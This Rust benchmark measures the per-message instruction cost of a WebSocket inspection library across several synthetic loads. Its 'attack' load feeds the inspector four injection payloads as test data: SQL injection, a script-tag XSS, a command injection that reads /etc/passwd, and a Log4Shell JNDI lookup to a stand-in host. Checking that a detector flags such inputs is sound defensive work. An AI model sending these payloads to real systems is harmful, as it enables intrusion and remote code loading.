//! The work of a message in instructions, which no noise changes: `cargo xtask instructions` runs this under callgrind, each
//! load with few and with many messages, and compares the difference with `instructions.toml`.
//!
//! `instructions LOAD COUNT`, or without arguments the names of the loads.

mod support;

use std::{fs, sync::Arc, time::Instant};

use framewall_inspect::{
    Direction, Mode, Settings,
    rules::{LiveRules, RuleSet},
};
use support::{client_frame, feed, websocket};

/// Name, bytes of a message, rules or not, what is sent.
const LOADS: [(&str, usize, bool, Kind); 14] = [
    ("chat-128", 128, false, Kind::Chat),
    ("chat-128-rules", 128, true, Kind::Chat),
    ("chat-1k", 1024, false, Kind::Chat),
    ("chat-1k-rules", 1024, true, Kind::Chat),
    ("chat-16k", 16 * 1024, false, Kind::Chat),
    ("chat-16k-rules", 16 * 1024, true, Kind::Chat),
    ("batch-1k", 1024, false, Kind::Batch),
    ("batch-1k-rules", 1024, true, Kind::Batch),
    ("records-1k", 1024, false, Kind::Records),
    ("attack", 0, false, Kind::Attack),
    ("binary-16k", 16 * 1024, false, Kind::Binary),
    ("to-client-1k", 1024, false, Kind::ToClient),
    ("opening", 128, false, Kind::Opening),
    ("opening-rules", 128, true, Kind::Opening),
];

#[derive(Clone, Copy)]
enum Kind {
    Chat,
    Batch,
    Records,
    Attack,
    Binary,
    ToClient,
    /// A connection with a chat message.
    Opening,
}

fn main() {
    let mut arguments = std::env::args().skip(1).filter(|argument| !argument.starts_with("--"));
    let (Some(name), Some(count)) = (arguments.next(), arguments.next()) else {
        for (name, ..) in LOADS {
            println!("{name}");
        }
        return;
    };
    let (_, bytes, rules, kind) = LOADS.into_iter().find(|load| load.0 == name).expect("the name of a load");
    let count: usize = count.parse().expect("a number of messages");
    let settings = Settings { mode: Mode::Log, rules: rules_of(rules), ..Settings::default() };
    let now = Instant::now();
    let settings = Arc::new(settings);
    let mut session = websocket("", &settings, now);
    let direction = if matches!(kind, Kind::ToClient) { Direction::ToClient } else { Direction::ToServer };
    let frames: Vec<Vec<u8>> = (0..16).map(|n| frame(kind, bytes, n)).collect();
    for frame in frames.iter().cycle().take(count) {
        if matches!(kind, Kind::Opening) {
            session = websocket("", &settings, now);
        }
        feed(&mut session, direction, frame, now);
    }
    let counters = session.counters();
    assert_eq!(counters.offences, 0);
    assert_eq!(counters.findings > 0, matches!(kind, Kind::Attack));
}

fn rules_of(some: bool) -> Arc<LiveRules> {
    if !some {
        return Arc::default();
    }
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../xtask/bench/rules.toml");
    let text = fs::read_to_string(path).expect("the rules of the bench");
    let set = RuleSet::load(&[(path, &text)], &|_, _| Err(String::new()), 0);
    Arc::new(LiveRules::new(set.unwrap_or_else(|complaints| panic!("{}", complaints[0])).0))
}

fn frame(kind: Kind, bytes: usize, n: usize) -> Vec<u8> {
    match kind {
        Kind::Chat | Kind::Opening => client_frame(0x81, chat(bytes, n).as_bytes()),
        Kind::Batch => client_frame(0x81, batch(bytes, n).as_bytes()),
        Kind::Records => client_frame(0x81, records(bytes, n).as_bytes()),
        Kind::Attack => {
            let attack = [
                "' or 1=1-- ",
                "<script>alert(1)</script>",
                ";cat /etc/passwd",
                "${jndi:ldap://x.example/a}",
            ];
            client_frame(
                0x81,
                format!(r#"{{"type":"msg","data":{{"text":"{}"}}}}"#, attack[n % 4]).as_bytes(),
            )
        }
        Kind::Binary => {
            let noise =
                (0..bytes as u32).map(|i| (i.wrapping_add(n as u32).wrapping_mul(2_654_435_761) >> 13) as u8);
            client_frame(0x82, &noise.collect::<Vec<_>>())
        }
        Kind::ToClient => {
            let text = chat(bytes, n);
            [&[0x81, 126][..], &(text.len() as u16).to_be_bytes(), text.as_bytes()].concat()
        }
    }
}

/// A message of a chat of exactly so many bytes.
fn chat(bytes: usize, n: usize) -> String {
    let mut text =
        format!(r#"{{"type":"chat","id":{},"room":"team-7","from":"Ada O'Brien","text":""#, 1_000_000 + n);
    'full: for sentence in SENTENCES.iter().cycle().skip(3 * n) {
        for word in sentence.split_inclusive(' ').chain([" "]) {
            if text.len() + word.len() + 2 > bytes {
                break 'full;
            }
            text += word;
        }
    }
    let left = bytes - text.len() - 2;
    text + &"7".repeat(left) + "\"}"
}

/// A list of messages of a chat.
fn batch(bytes: usize, n: usize) -> String {
    let mut text = format!(r#"{{"type":"batch","page":{n},"items":["#);
    for nth in 0.. {
        let left = bytes - text.len() - 2;
        if left < 400 {
            return text + &chat(left, n + nth) + "]}";
        }
        text += &chat(128 + 64 * ((n + nth) % 3), n + nth);
        text.push(',');
    }
    text
}

/// Records with many short values, as an API sends them.
fn records(bytes: usize, n: usize) -> String {
    let mut text = String::from("[");
    for id in 0.. {
        let record = format!(
            r#"{{"id":{},"name":"Item {id}","url":"https://example.org/items/{id}","tags":["new","sale"],"date":"2026-03-{:02}T10:00:00Z","ok":true}},"#,
            id * 7 + n,
            1 + id % 28
        );
        if text.len() + record.len() > bytes {
            break;
        }
        text += &record;
    }
    text.pop();
    text + "]"
}

const SENTENCES: [&str; 16] = [
    "Hello, is anybody there?",
    "The meeting moved to Tuesday, 10:30.",
    "It's fine, don't worry about it.",
    "Please select a table near the window.",
    "The parcel is ready, the price went down by 20%.",
    "Naïve question: does the café open on Sunday?",
    "Привет, как дела?",
    "Sounds good 👍",
    "I'd rather leave it, or move it to the next release.",
    "Mail me at ada@example.org or call +44 20 7946 0000.",
    "See https://example.org/docs?page=2&lang=en for more.",
    "Who is in the team now, and who was there last year?",
    "Not sure; where did you put the keys?",
    "I can't find the charger, did somebody take it home?",
    "The version from last week feels much faster on my old phone.",
    "Dinner at eight, bring a jacket, the terrace gets cold.",
];
